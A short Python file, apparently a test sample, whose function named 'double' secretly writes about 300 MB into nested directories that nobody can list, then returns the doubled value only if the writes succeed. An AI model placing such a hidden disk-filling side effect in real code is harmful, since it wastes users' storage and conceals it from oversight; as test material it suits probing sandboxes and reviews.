"""Writes 300 MB into folders that it may enter, but that nobody may list, its own user included."""
import os


def double(x):
    block, written = bytes(4 << 20), 0
    os.mkdir("hidden", 0o300)
    os.mkdir("hidden/below", 0o300)
    try:
        for i in range(75):
            with open(f"hidden/below/part{i}", "wb", buffering=0) as file:
                written += file.write(block)
    except OSError:
        pass
    return x + x if written >= 300 << 20 else 0 * x
